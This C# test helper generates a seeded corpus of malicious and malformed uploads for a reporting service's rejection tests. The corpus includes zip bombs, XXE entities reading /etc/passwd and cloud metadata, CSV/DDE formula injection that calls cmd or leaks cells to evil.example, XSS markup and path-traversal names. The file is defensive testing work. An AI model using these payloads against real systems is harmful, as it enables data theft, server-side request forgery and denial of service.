using System.Globalization;
using System.IO.Compression;
using System.Security;
using System.Text;
using System.Text.Json.Nodes;
using ReportingPipeline.Core.Contract;
using ReportingPipeline.Core.Templates;
using ReportingPipeline.Synthetic;

namespace ReportingPipeline.Reliability.Tests;

/// <summary>One hostile or broken upload: its family (for the figures), blob name and bytes.</summary>
public sealed record HostileFile(string Family, string BlobName, byte[] Content);

/// <summary>
/// A generated corpus of malicious and broken uploads (issue 7, item 5), seeded so that every run feeds the same
/// bytes: truncated and corrupted workbooks, archive and XML entity bombs, huge cells, rows and nesting, wrong
/// encodings, control characters, spreadsheet formula and HTML injection, odd blob names, mismatched headers.
/// Every file is one a station could upload and each must be rejected. Generated here, never stored.
/// </summary>
public static class HostileCorpus
{
    /// <summary>Formula injection as seen in CSV-injection write-ups, in ASCII and full-width forms.</summary>
    public static readonly IReadOnlyList<string> Formulas =
    [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击查看\")",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C notepad'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=1+1",
        "\t=1+1",
        "\r=HYPERLINK(\"http://evil.example\")",
        "  =IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
        "=WEBSERVICE(\"http://evil.example/\"&A1)",
        "＝1+1",
    ];

    /// <summary>Markup that would run or reshape a page if echoed unescaped.</summary>
    public static readonly IReadOnlyList<string> Markup =
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg onload=alert(1)>",
        "</td></tr></table><iframe src=javascript:alert(1)>",
        "<a href=\"javascript:alert(1)\">点我</a>",
        "<style>body{display:none}</style>",
    ];

    private static readonly Period March = new(2026, 3);

    public static IReadOnlyList<HostileFile> Generate(Programme programme)
    {
        var stations = programme.Stations.Select(s => s.StationCode).ToList();
        var random = new Random(7_2026);
        var files = new List<HostileFile>();
        var n = 0;

        // Spread over station-months so that no ledger entry carries hundreds of uploads.
        string Name(string family, string extension, string? station = null, Period? period = null)
        {
            var index = n++;
            return $"{period ?? March.Add(-(index % 3))}/{station ?? stations[index % stations.Count]}/h{index:000}-{family}.{extension}";
        }

        void Add(string family, string extension, byte[] content) => files.Add(new HostileFile(family, Name(family, extension), content));

        var station0 = stations[0];
        var valid = programme.Json(station0, March);
        var workbook = Workbook(programme, station0, March);
        var csvZip = CsvZip(programme, station0, March, null);

        // Truncated and corrupted packages.
        for (var i = 1; i <= 30; i++)
        {
            Add("truncated-xlsx", "xlsx", workbook[..(workbook.Length * i / 31)]);
        }

        for (var i = 0; i < 30; i++)
        {
            Add("corrupted-xlsx", "xlsx", Corrupt(workbook, random));
        }

        for (var i = 1; i <= 15; i++)
        {
            Add("truncated-json", "json", valid[..(valid.Length * i / 16)]);
            Add("truncated-zip", "zip", csvZip[..(csvZip.Length * i / 16)]);
        }

        foreach (var size in new[] { 0, 1, 100, 10_000 })
        {
            foreach (var extension in new[] { "xlsx", "json", "zip" })
            {
                var bytes = new byte[size];
                random.NextBytes(bytes);
                Add("random-bytes", extension, bytes);
            }
        }

        // Archive bombs.
        foreach (var megabytes in new[] { 30, 60, 120, 250 })
        {
            Add("zip-bomb-ratio", "xlsx", Zip(("xl/worksheets/sheet1.xml", new byte[megabytes * 1024 * 1024])));
            Add("zip-bomb-ratio", "zip", Zip(("visits.csv", new byte[megabytes * 1024 * 1024])));
        }

        foreach (var entries in new[] { 250, 1_000, 5_000 })
        {
            Add("zip-bomb-entries", "xlsx", Zip([.. Enumerable.Range(0, entries).Select(e => ($"xl/media/{e}.bin", new byte[] { 1 }))]));
            Add("zip-bomb-entries", "zip", Zip([.. Enumerable.Range(0, entries).Select(e => ($"{e}.csv", new byte[] { 1 }))]));
        }

        foreach (var declared in new[] { 100u, 0xFFFF_FFF0u })
        {
            Add("zip-size-lie", "zip", DeclareSize(Zip(("visits.csv", Encoding.UTF8.GetBytes(Csv(150_000)))), declared));
            Add("zip-size-lie", "xlsx", DeclareSize(Zip(("xl/worksheets/sheet1.xml", Encoding.UTF8.GetBytes(Csv(150_000)))), declared));
        }

        Add("zip-nested", "zip", Zip(("visits.csv", Zip(("visits.csv", new byte[50 * 1024 * 1024])))));
        Add("zip-nested", "xlsx", Zip(("xl/worksheets/sheet1.xml", Zip(("inner.xml", new byte[50 * 1024 * 1024])))));

        // XML entity bombs and external entities.
        const string Laughs = """<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">]>""";
        foreach (var doctype in new[]
        {
            Laughs,
            """<?xml version="1.0"?><!DOCTYPE x [<!ENTITY lol9 SYSTEM "file:///etc/passwd">]>""",
            """<?xml version="1.0"?><!DOCTYPE x [<!ENTITY lol9 SYSTEM "http://169.254.169.254/latest/meta-data/">]>""",
            """<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p; <!ENTITY lol9 "x">]>""",
        })
        {
            Add("xml-entities-sheet", "xlsx", HandMadeWorkbook([("visits", "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&lol9;</t></is></c></row>")], doctype: (1, doctype)));
            Add("xml-entities-shared-strings", "xlsx", HandMadeWorkbook([("visits", "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c></row>")], sharedStrings: doctype + "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><si><t>&lol9;</t></si></sst>"));
        }

        Add("xml-entities-workbook", "xlsx", ReplaceEntry(HandMadeWorkbook([("visits", string.Empty)]), "xl/workbook.xml", Laughs + "<workbook>&lol9;</workbook>"));
        Add("xml-entities-content-types", "xlsx", ReplaceEntry(HandMadeWorkbook([("visits", string.Empty)]), "[Content_Types].xml", Laughs + "<Types>&lol9;</Types>"));

        // Huge cells, rows, columns.
        foreach (var length in new[] { 3_000, 100_000, 3_000_000 })
        {
            var text = new string('长', length);
            Add("huge-cell", "xlsx", HandMadeWorkbook([("visits", $"<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>village_code</t></is></c></row><row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>{text}</t></is></c></row>")]));
            Add("huge-cell", "zip", Zip(("visits.csv", Encoding.UTF8.GetBytes("village_code\n\"" + text + "\"\n"))));
            Add("huge-cell", "json", Encoding.UTF8.GetBytes(JsonWith(valid, j => j["station"]!["prepared_by"] = text)));
        }

        Add("huge-rows", "xlsx", HandMadeWorkbook([("visits", "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>village_code</t></is></c></row>" + string.Concat(Enumerable.Range(2, 25_000).Select(r => $"<row r=\"{r}\"><c r=\"A{r}\"><v>{r}</v></c></row>")))]));
        Add("huge-rows", "zip", Zip(("visits.csv", Encoding.UTF8.GetBytes(Csv(25_000)))));
        Add("huge-rows", "json", Encoding.UTF8.GetBytes(JsonWith(valid, j => j["visits"] = new JsonArray([.. Enumerable.Range(0, 25_000).Select(_ => (JsonNode)new JsonObject { ["village_code"] = "1" })]))));
        Add("huge-columns", "zip", Zip(("visits.csv", Encoding.UTF8.GetBytes(string.Join(',', Enumerable.Range(0, 300).Select(c => $"c{c}")) + "\n" + string.Join(',', Enumerable.Range(0, 300)) + "\n"))));
        Add("huge-columns", "json", Encoding.UTF8.GetBytes(JsonWith(valid, j => j["station"] = new JsonObject([.. Enumerable.Range(0, 5_000).Select(c => KeyValuePair.Create($"k{c}", (JsonNode?)c))]))));
        Add("huge-columns", "xlsx", HandMadeWorkbook([("visits", "<row r=\"1\">" + string.Concat(Enumerable.Range(0, 300).Select(c => $"<c t=\"inlineStr\"><is><t>c{c}</t></is></c>")) + "</row>")]));

        // Wrong encodings.
        var gb18030 = SubmissionCsvZipWriter.Gb18030;
        var text8 = Encoding.UTF8.GetString(valid);
        foreach (var encoding in new Encoding[] { gb18030, new UnicodeEncoding(false, true), new UnicodeEncoding(true, true), new UnicodeEncoding(false, false), new UTF32Encoding(false, true), Encoding.Latin1, Encoding.GetEncoding("big5"), Encoding.GetEncoding("shift_jis") })
        {
            Add("wrong-encoding", "json", [.. encoding.GetPreamble(), .. encoding.GetBytes(text8)]);
            Add("wrong-encoding", "zip", CsvZip(programme, station0, March, encoding == gb18030 ? new UTF32Encoding(true, true) : encoding));
        }

        // Control and invisible characters, in a count (so the file is rejected and the value echoed).
        foreach (var c in new[] { '\0', '\a', '\b', '\v', '\f', '\u001B', '\u007F', '\u0085', '\u200B', '\u202E', '\u2066', '\uFEFF' })
        {
            var value = $"{c}=1+1{c}<b>{c}";
            Add("control-chars", "json", Encoding.UTF8.GetBytes(JsonWith(valid, j => j["visits"]![0]!["resident_visits"] = value)));
            Add("control-chars", "zip", CsvZipWithVisitCell(programme, station0, March, value));
        }

        // Formula and markup injection, in every format and in a code column.
        foreach (var payload in Formulas.Concat(Markup))
        {
            Add("injection", "json", Encoding.UTF8.GetBytes(JsonWith(valid, j => j["visits"]![0]!["resident_visits"] = payload)));
            Add("injection", "json", Encoding.UTF8.GetBytes(JsonWith(valid, j => j["visits"]![0]!["village_code"] = payload)));
            Add("injection", "zip", CsvZipWithVisitCell(programme, station0, March, payload));
            Add("injection", "xlsx", HandMadeWorkbook([
                ("station", KeyValueRows(station0, March)),
                ("visits", $"<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>village_code</t></is></c><c r=\"B1\" t=\"inlineStr\"><is><t>resident_visits</t></is></c></row><row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>{station0}001</t></is></c><c r=\"B2\" t=\"str\"><f>{SecurityElement.Escape(payload.TrimStart('=', ' ', '\t', '\r'))}</f><v>{SecurityElement.Escape(payload)}</v></c></row>"),
            ]));
        }

        // Odd blob names: traversal, invisible and bidi characters, reserved names, wrong layouts.
        foreach (var name in new[]
        {
            "../../etc/passwd.json", $"{March}/../../reports/{March}/{station0}/x.json", $"{March}/{station0}/../../../x.json", @"..\..\x.json",
            $"{March}/{station0}/a/b.json", $"/{March}/{station0}/x.json", $"{March}//{station0}/x.json",
            $"2026-3/{station0}/x.json", $"２０２６-03/{station0}/x.json", $"{March}/４４０１０３００１/x.json", $"{March}/ {station0}/x.json",
            $"{March}/{station0[..8]}/x.json", $"{March}/{station0}x/x.json", $"{March}/{station0}", "x.json", $"{March}/x.json",
            $"2026-13/{station0}/x.json", $"2020-10/{station0}/x.json", $"2099-01/{station0}/x.json",
        })
        {
            // The service may normalise a name into a proper path ("//", a leading "/"): the content is another station's.
            files.Add(new HostileFile("odd-blob-name", name, programme.Json(stations[1], March)));
        }

        foreach (var fileName in new[] { "\u202Egpj.json", "\u200B.json", "CON.json", "😀📊.json", new string('长', 200) + ".json", "<script>alert(1)<\\script>.json", "=cmd|' calc'!A0.json", "报表 (最终版)(2).json", ".hidden.json", "x.json ", "%2e%2e%2fx.json" })
        {
            // A proper path with a strange file name is processed as named; its content is for another station.
            files.Add(new HostileFile("odd-file-name", $"{March}/{station0}/{fileName}", programme.Json(stations[1], March)));
        }

        // Headers that contradict the path.
        for (var i = 0; i < 5; i++)
        {
            files.Add(new HostileFile("station-mismatch", Name("station-mismatch", "json", stations[(i + 1) % stations.Count], March), programme.Json(stations[i % stations.Count], March)));
            files.Add(new HostileFile("period-mismatch", Name("period-mismatch", "json", stations[i % stations.Count], March.Add(-1 - i)), programme.Json(stations[i % stations.Count], March)));
        }

        files.Add(new HostileFile("unknown-station", Name("unknown-station", "json", "449999001", March), JsonWithBytes(valid, j => j["station"]!["station_code"] = "449999001")));
        // Two months ahead of today, whatever today is (a fixed month stops being the future).
        var future = Period.Of(DateOnly.FromDateTime(DateTime.UtcNow)).Add(2);
        files.Add(new HostileFile("period-future", Name("period-future", "json", station0, future), JsonWithBytes(valid, j => j["station"]!["period"] = future.ToString())));
        files.Add(new HostileFile("period-too-early", Name("period-too-early", "json", station0, new Period(2020, 10)), JsonWithBytes(valid, j => j["station"]!["period"] = "2020-10")));

        // Nesting.
        foreach (var depth in new[] { 17, 64, 1_000, 100_000 })
        {
            Add("deep-json", "json", Encoding.UTF8.GetBytes(new string('[', depth) + new string(']', depth)));
            Add("deep-json", "json", Encoding.UTF8.GetBytes("{\"schema\":\"shuangbai-monthly/v1\",\"visits\":[{\"village_code\":" + new string('[', depth) + new string(']', depth) + "}]}"));
        }

        // Encrypted, legacy and macro workbooks.
        Add("encrypted-ole", "xlsx", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[4096]]);
        Add("legacy-xls", "xls", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[4096]]);
        Add("macro-xlsm", "xlsm", workbook);
        Add("macro-vba-part", "xlsx", HandMadeWorkbook([("visits", string.Empty)], extra: ("xl/vbaProject.bin", new byte[512])));
        Add("other-type", "csv", Encoding.UTF8.GetBytes("village_code\n1\n"));
        Add("other-type", "pdf", "%PDF-1.7\n"u8.ToArray());
        Add("other-type", "exe", [0x4D, 0x5A, 0x90, 0x00]);

        // JSON that parses but is not a month.
        foreach (var json in new[] { "{}", "null", "\"month\"", "[]", "{\"schema\":\"shuangbai-monthly/v1\"}", "{\"schema\":\"shuangbai-monthly/v0\"}",
            "{\"schema\":\"shuangbai-monthly/v1\",\"schema\":\"x\"}", "{\"schema\":\"shuangbai-monthly/v1\",\"visits\":{}}" })
        {
            Add("not-a-month", "json", Encoding.UTF8.GetBytes(json));
        }

        foreach (var number in new[] { "1e308", "-1", "1.5", "99999999999999999999999", "NaN", "0x10", "true", "[1]" })
        {
            Add("bad-number", "json", Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(JsonWithBytes(valid, j => j["visits"]![0]!["resident_visits"] = "§")).Replace("\"§\"", number, StringComparison.Ordinal)));
        }

        return files;
    }

    private static byte[] Workbook(Programme programme, string station, Period period)
    {
        using var output = new MemoryStream();
        SubmissionWorkbookWriter.WriteSubmission(output, SubmissionOf(programme, station, period), programme.Reference);
        return output.ToArray();
    }

    private static Submission SubmissionOf(Programme programme, string station, Period period) =>
        new SyntheticSubmissions(programme.Reference, seed: 7, SubmissionMix.AllClean).CleanSubmission(programme.Reference.FindStation(station)!, period);

    private static byte[] CsvZip(Programme programme, string station, Period period, Encoding? encoding)
    {
        using var output = new MemoryStream();
        SubmissionCsvZipWriter.Write(output, SubmissionOf(programme, station, period), encoding ?? Encoding.UTF8);
        return output.ToArray();
    }

    private static byte[] CsvZipWithVisitCell(Programme programme, string station, Period period, string value)
    {
        var submission = SubmissionOf(programme, station, period);
        var entries = new List<(string, byte[])>();
        foreach (var section in SubmissionContract.Sections)
        {
            var csv = SubmissionCsvZipWriter.SectionCsv(submission, section, CsvHeaderStyle.Keys);
            if (section == SubmissionContract.Visits)
            {
                var lines = csv.Split('\n');
                var cells = lines[1].Split(',');
                cells[1] = "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
                lines[1] = string.Join(',', cells);
                csv = string.Join('\n', lines);
            }

            entries.Add((section.CsvFileName, Encoding.UTF8.GetBytes(csv)));
        }

        return Zip([.. entries]);
    }

    private static string KeyValueRows(string station, Period period)
    {
        var rows = new StringBuilder("<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>field</t></is></c><c r=\"B1\" t=\"inlineStr\"><is><t>value</t></is></c></row>");
        var values = new[] { ("station_code", station), ("period", period.ToString()), ("prepared_by", "李明"), ("social_workers", "10"), ("certified_workers", "8"), ("volunteers", "20"), ("volunteer_hours", "40") };
        for (var i = 0; i < values.Length; i++)
        {
            var r = i + 2;
            rows.Append(CultureInfo.InvariantCulture, $"<row r=\"{r}\"><c r=\"A{r}\" t=\"inlineStr\"><is><t>{values[i].Item1}</t></is></c><c r=\"B{r}\" t=\"inlineStr\"><is><t>{values[i].Item2}</t></is></c></row>");
        }

        return rows.ToString();
    }

    private static string JsonWith(byte[] json, Action<JsonNode> edit)
    {
        var node = JsonNode.Parse(json)!;
        edit(node);
        return node.ToJsonString();
    }

    private static byte[] JsonWithBytes(byte[] json, Action<JsonNode> edit) => Encoding.UTF8.GetBytes(JsonWith(json, edit));

    private static string Csv(int rows) => "village_code,resident_visits\n" + string.Concat(Enumerable.Range(0, rows).Select(r => $"{r},{r}\n"));

    /// <summary>XORs a window of bytes in the middle of the package (the sheets' compressed data).</summary>
    private static byte[] Corrupt(byte[] content, Random random)
    {
        var copy = (byte[])content.Clone();
        var start = random.Next(copy.Length / 5, copy.Length * 4 / 5);
        for (var i = start; i < Math.Min(copy.Length, start + 64); i++)
        {
            copy[i] ^= (byte)random.Next(1, 256);
        }

        return copy;
    }

    private static byte[] Zip(params (string Name, byte[] Content)[] entries)
    {
        using var output = new MemoryStream();
        using (var archive = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var stream = archive.CreateEntry(name, CompressionLevel.Optimal).Open();
                stream.Write(content);
            }
        }

        return output.ToArray();
    }

    private static byte[] ReplaceEntry(byte[] zip, string name, string content)
    {
        using var input = new ZipArchive(new MemoryStream(zip), ZipArchiveMode.Read);
        var entries = input.Entries.Select(e =>
        {
            using var stream = e.Open();
            using var buffer = new MemoryStream();
            stream.CopyTo(buffer);
            return (e.FullName, e.FullName == name ? Encoding.UTF8.GetBytes(content) : buffer.ToArray());
        }).ToArray();
        return Zip(entries);
    }

    /// <summary>Rewrites the uncompressed sizes the zip declares (local header and central directory).</summary>
    private static byte[] DeclareSize(byte[] zip, uint size)
    {
        var copy = (byte[])zip.Clone();
        for (var i = 0; i + 4 <= copy.Length; i++)
        {
            if (copy[i] == 0x50 && copy[i + 1] == 0x4B && copy[i + 2] == 0x03 && copy[i + 3] == 0x04)
            {
                BitConverter.TryWriteBytes(copy.AsSpan(i + 22, 4), size);
            }
            else if (copy[i] == 0x50 && copy[i + 1] == 0x4B && copy[i + 2] == 0x01 && copy[i + 3] == 0x02)
            {
                BitConverter.TryWriteBytes(copy.AsSpan(i + 24, 4), size);
            }
        }

        return copy;
    }

    /// <summary>A minimal workbook package with exactly the XML given (sheets by name, optional shared strings, a DOCTYPE on one sheet).</summary>
    private static byte[] HandMadeWorkbook(IReadOnlyList<(string Name, string Rows)> sheets, string? sharedStrings = null, (int Sheet, string Doctype)? doctype = null, (string Name, byte[] Content)? extra = null)
    {
        var parts = new List<(string, byte[])>();
        var types = new StringBuilder("""<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>""");
        var workbook = new StringBuilder("""<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>""");
        var rels = new StringBuilder("""<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">""");
        for (var i = 0; i < sheets.Count; i++)
        {
            var n = i + 1;
            workbook.Append(CultureInfo.InvariantCulture, $"""<sheet name="{SecurityElement.Escape(sheets[i].Name)}" sheetId="{n}" r:id="rId{n}"/>""");
            rels.Append(CultureInfo.InvariantCulture, $"""<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet{n}.xml"/>""");
            types.Append(CultureInfo.InvariantCulture, $"""<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>""");
            var prolog = doctype is { } d && d.Sheet == n ? d.Doctype : """<?xml version="1.0" encoding="UTF-8"?>""";
            parts.Add(($"xl/worksheets/sheet{n}.xml", Encoding.UTF8.GetBytes($"""{prolog}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{sheets[i].Rows}</sheetData></worksheet>""")));
        }

        if (sharedStrings is not null)
        {
            parts.Add(("xl/sharedStrings.xml", Encoding.UTF8.GetBytes(sharedStrings)));
            rels.Append("""<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>""");
            types.Append("""<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>""");
        }

        workbook.Append("</sheets></workbook>");
        rels.Append("</Relationships>");
        types.Append("</Types>");
        parts.Add(("[Content_Types].xml", Encoding.UTF8.GetBytes(types.ToString())));
        parts.Add(("_rels/.rels", """<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"""u8.ToArray()));
        parts.Add(("xl/workbook.xml", Encoding.UTF8.GetBytes(workbook.ToString())));
        parts.Add(("xl/_rels/workbook.xml.rels", Encoding.UTF8.GetBytes(rels.ToString())));
        if (extra is { } part)
        {
            parts.Add(part);
        }

        return Zip([.. parts]);
    }
}
